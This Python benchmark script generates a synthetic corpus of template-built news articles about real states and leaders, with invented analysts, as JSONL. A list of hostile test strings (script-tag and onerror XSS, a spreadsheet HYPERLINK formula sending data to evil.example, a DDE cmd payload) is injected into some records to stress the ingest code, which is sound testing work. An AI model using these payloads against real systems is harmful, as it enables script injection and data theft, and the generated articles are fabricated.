"""A deterministic scale corpus: N varied, realistic-looking news articles as JSONL records.

Articles are composed from sentence templates about actors drawn from the knowledge base (kb.entities()):
events (a visit, a summit, an attack) told by one to five outlets over two years, with stance sentences
(who backs or condemns whom), membership sentences (members, observers, attendees of a body), filler
sentences, short and long articles, undated ones, and hostile strings (`<script>`, `=HYPERLINK(...)`) in
titles and text. The same N and seed always give the same file. The records carry what
analysis/ingest.py reads from JSONL: text, title, outlet, published, url.

Usage: python bench/corpus_gen.py N OUT_DIR [--seed S]     (writes OUT_DIR/corpus.jsonl)
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import random
import re
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from analysis import knowledge  # noqa: E402

# Canonical outlet names as analysis/kb/outlets.json lists them (≥ 10 so legends and filters are stressed).
OUTLETS = ["Reuters", "Associated Press", "Agence France-Presse", "Al Jazeera", "BBC News", "The Guardian",
           "Deutsche Welle", "France 24", "TRT World", "Middle East Eye", "Channel News Asia", "Voice of America",
           "Euronews", "The New York Times", "The Washington Post", "Financial Times", "Bloomberg", "CNN"]
START = dt.date(2022, 1, 1)
DAYS = 730  # two years of publication dates
WEEKDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]
HOSTILE = ['<script>alert("x")</script>', '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
           '<img src=x onerror=alert(1)>', '@SUM(1+1)*cmd|" /C calc"!A0', "+1-555-0100 tip line",
           "-2+3 ministers"]

LEADS = [
    "{a} arrived in {place} on {weekday} for talks with {b} on {topic}.",
    "{a} met {b} in {place} on {weekday}, officials said, as {topic} dominated the agenda.",
    "{a} and {b} held talks in {place} on {weekday} about {topic}.",
    "Leaders gathered in {place} on {weekday} as {a} pressed {b} on {topic}.",
]
SUPPORTS = [
    "{x} has backed {y} throughout the conflict.",
    "{x} supports {y}, a spokesman said.",
    "{x}, one of {y}'s main allies, has sent weapons and advisers.",
    "{x} has long supported {y} against its rivals.",
    "Officials said {x} would continue to back {y}.",
]
OPPOSES = [
    "{x} opposes {y} and has called for new sanctions.",
    "{x} condemned {y} for the attack.",
    "{x} wants {y} gone, its foreign minister said.",
    "{x} has strongly opposed {y} since the start of the war.",
    "{x} accused {y} of undermining the talks.",
]
MEMBERS = [
    "Members of the {org} include {list}.",
    "{c} is a member of the {org}.",
    "{c}, an observer at the {org}, sent a small delegation.",
    "Leaders of {list} attended the {org} summit in {place}.",
    "The {org}, whose members include {list}, met on the sidelines.",
]
FILLER = [
    "Oil prices rose by about {n} per cent after the meeting.",
    "Analysts said the talks were unlikely to produce a breakthrough before the end of the year.",
    "The two sides signed {n} agreements on energy, transport and trade.",
    "A joint statement called for a political solution and for humanitarian access.",
    "Security was tight in the capital, where roads were closed for several hours.",
    "The ministry did not respond to a request for comment.",
    "Diplomats said a follow-up meeting could take place within weeks.",
    "Thousands of people have been displaced by the fighting, according to the United Nations.",
    "The central bank kept its benchmark rate unchanged at {n} per cent.",
    "Critics said the visit was aimed mainly at a domestic audience.",
    "Trade between the two countries reached {n} billion dollars last year.",
    "Reporters were not allowed to attend the closed session.",
]
# Invented people and institutions the knowledge base does not know (a real corpus names many: analysts,
# spokespeople, local officials), so the entity tables grow with the corpus as they would.
FIRST = ["Sarah", "Ahmad", "Elena", "Mehmet", "Li", "Fatima", "James", "Olga", "Karim", "Ana", "David", "Yusuf",
         "Maria", "Hassan", "Irina", "Tom", "Leila", "Viktor", "Nadia", "Omar", "Julia", "Reza", "Chen", "Amira"]
LAST = ["Collins", "Karimi", "Petrova", "Yilmaz", "Wei", "Haddad", "Okafor", "Novak", "Rahimi", "Fischer",
        "Moreno", "Sato", "Barzani", "Kowalski", "Mansour", "Lindqvist", "Osei", "Tehrani", "Dubois", "Ivanova"]
INSTITUTES = ["Institute for {x} Studies", "{x} Policy Centre", "Centre for {x} Security", "{x} Energy Forum",
              "{x} Research Group", "Council on {x} Affairs"]
QUOTES = [
    '"This changes the balance in the region," said {p}, an analyst at the {i}.',
    "{p}, a spokesperson for the {i}, said the talks had been constructive.",
    '"We are watching closely," {p} of the {i} told {outlet}.',
    "According to {p}, who heads the {i}, the agreement is fragile.",
]
TOPICS = ["the war in Syria", "gas exports", "the nuclear deal", "regional security", "trade and energy",
          "the refugee crisis", "sanctions", "the ceasefire", "grain exports", "the border dispute"]


def _actors(kb) -> dict[str, list]:
    """Actors by role in the templates: countries, leaders with a country, bodies, groups, places."""
    ents = kb.entities()
    persons = [e for e in ents if e.type == "person" and e.country_id and e.role
               and "until" not in e.role and "(" not in e.role]
    # Countries that have a leader in the KB (sovereign states news is about), not overseas territories.
    with_people = {e.country_id for e in persons}
    countries = [e for e in ents if e.type == "country" and e.iso3 and e.entity_id in with_people]
    return {
        "countries": countries,
        # the countries most news is about get picked more often, as in real coverage
        "major": [e for e in countries if e.iso3 in {"RUS", "IRN", "USA", "TUR", "SAU", "SYR", "CHN", "ISR", "QAT",
                                                    "GBR", "FRA", "DEU", "UKR", "EGY", "IRQ", "ARE"}],
        "persons": persons,
        # bodies that states belong to (membership sentences about a newspaper would be nonsense)
        "orgs": [e for e in ents if e.type == "organisation" and e.role
                 and e.role.startswith(("intergovernmental", "military alliance", "economic union",
                                        "supranational", "negotiating group"))],
        "groups": [e for e in ents if e.type == "group"],
        "places": [e for e in ents if e.type == "place" and e.country_id],
    }


def _list(names: list[str]) -> str:
    return names[0] if len(names) == 1 else ", ".join(names[:-1]) + " and " + names[-1]


def _quote(rng: random.Random) -> str:
    """A quote from an invented analyst or spokesperson at an invented institution."""
    person = f"{rng.choice(FIRST)} {rng.choice(LAST)}"
    inst = rng.choice(INSTITUTES).format(x=rng.choice(["Gulf", "Caspian", "Levant", "Eurasian", "Atlantic",
                                                          "Mediterranean", "Arctic", "Sahel", "Balkan", "Pacific"]))
    return rng.choice(QUOTES).format(p=person, i=inst, outlet="reporters")


def _event(rng: random.Random, actors: dict, i: int) -> dict:
    """One story: date, place, two leaders, stance pairs, a body with its members."""
    major, countries = actors["major"], actors["countries"]
    a, b = rng.sample(actors["persons"], 2)
    pool = major if rng.random() < 0.7 else countries
    backers = rng.sample(pool, rng.randint(1, 3))
    opposers = rng.sample([c for c in countries if c not in backers], rng.randint(1, 3))
    target = rng.choice(actors["persons"] + actors["groups"] + major)
    org = rng.choice(actors["orgs"])
    members = rng.sample(countries, rng.randint(2, 12))
    return {
        "i": i, "date": START + dt.timedelta(days=rng.randrange(DAYS)), "place": rng.choice(actors["places"]),
        "a": a, "b": b, "topic": rng.choice(TOPICS), "backers": backers, "opposers": opposers, "target": target,
        "org": org, "members": members, "facts": rng.sample(FILLER, 6),
    }


def _sentences(rng: random.Random, ev: dict, n: int) -> list[str]:
    """n sentences about the event: a lead, stance and membership claims, filler."""
    date = ev["date"]
    lead = rng.choice(LEADS).format(a=ev["a"].name, b=ev["b"].name, place=ev["place"].name,
                                     weekday=WEEKDAYS[date.weekday()], topic=ev["topic"])
    out = [lead]
    target = ev["target"].name
    for c in ev["backers"]:
        out.append(rng.choice(SUPPORTS).format(x=c.name, y=target))
    for c in ev["opposers"]:
        out.append(rng.choice(OPPOSES).format(x=c.name, y=target))
    members = [m.name for m in ev["members"]]
    org = ev["org"].name
    tpl = rng.choice(MEMBERS)
    out.append(tpl.format(org=org, list=_list(members), c=members[0], place=ev["place"].name))
    while len(out) < n:
        r = rng.random()
        if r < 0.5:
            out.append(rng.choice(ev["facts"] + FILLER).format(n=rng.randint(2, 40)))
        elif r < 0.7:
            x = rng.choice(ev["backers"] + ev["opposers"])
            out.append(f"{x.name} said it would send a delegation to {ev['place'].name} next month.")
        elif r < 0.75:
            out.append(_quote(rng))
        elif r < 0.85:
            p = rng.choice([ev["a"], ev["b"]])
            out.append(f"{p.name}, the {p.role}, told reporters that {ev['topic']} remained the priority.")
        else:
            c = rng.choice(ev["members"]).name
            out.append(rng.choice(MEMBERS).format(org=org, list=_list(members[:3]), c=c, place=ev["place"].name))
    body = out[1:]
    rng.shuffle(body)  # claims anywhere in the article, and short articles keep only some of them
    return [lead] + body[:max(n - 1, 1)]


def article(rng: random.Random, ev: dict, outlet: str, k: int) -> dict:
    """One outlet's report of an event as a JSONL record (text, title, outlet, published, url)."""
    size = rng.random()
    n = rng.randint(2, 4) if size < 0.15 else rng.randint(60, 110) if size > 0.9 else rng.randint(8, 25)
    sents = _sentences(rng, ev, n)
    title = f"{ev['a'].name} and {ev['b'].name} discuss {ev['topic']} in {ev['place'].name}"
    if k % 3 == 1:
        title = f"{ev['target'].name}: {rng.choice(ev['backers']).name} vows support amid talks"
    hostile = rng.random() < 0.06
    if hostile:
        title = f"{title} {rng.choice(HOSTILE)}"
        sents.insert(1, rng.choice(HOSTILE))
    paras, i = [], 0
    while i < len(sents):
        step = rng.randint(1, 4)
        paras.append(" ".join(sents[i:i + step]))
        i += step
    text = title + "\n\n" + "\n\n".join(paras)
    published = ev["date"] + dt.timedelta(days=rng.choice([0, 0, 0, 1, 2]))
    record = {"text": text, "title": title, "outlet": outlet,
              "published": published.isoformat(),
              "url": f"https://news.example/{re.sub(r'[^a-z0-9]+', '-', outlet.lower())}/{ev['i']}-{k}"}
    if rng.random() < 0.08:  # undated: the reader has only "on Monday" in the text
        record.pop("published")
    return record


def generate(n: int, seed: int = 11, kb=None) -> list[dict]:
    """Return n article records: events told by 1–5 outlets each, deterministic for (n, seed)."""
    rng = random.Random(seed)
    actors = _actors(kb or knowledge.load())
    records: list[dict] = []
    i = 0
    while len(records) < n:
        ev = _event(rng, actors, i)
        # Most stories are told by one or two outlets, a few by many (a long tail, as in real coverage).
        k = min(rng.choice([1, 1, 1, 2, 2, 3, 4, 5]), n - len(records))
        for j, outlet in enumerate(rng.sample(OUTLETS, k)):
            records.append(article(rng, ev, outlet, j))
        i += 1
    return records


def write(n: int, out_dir: str | Path, seed: int = 11) -> Path:
    """Write n records to OUT_DIR/corpus.jsonl and return its path."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    path = out / "corpus.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in generate(n, seed)), encoding="utf-8")
    return path


def main(argv=None) -> int:
    """Write the corpus and print its path and size."""
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("n", type=int)
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=11)
    args = ap.parse_args(argv)
    path = write(args.n, args.out, args.seed)
    print(f"{args.n} articles -> {path} ({path.stat().st_size / 1e6:.1f} MB)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
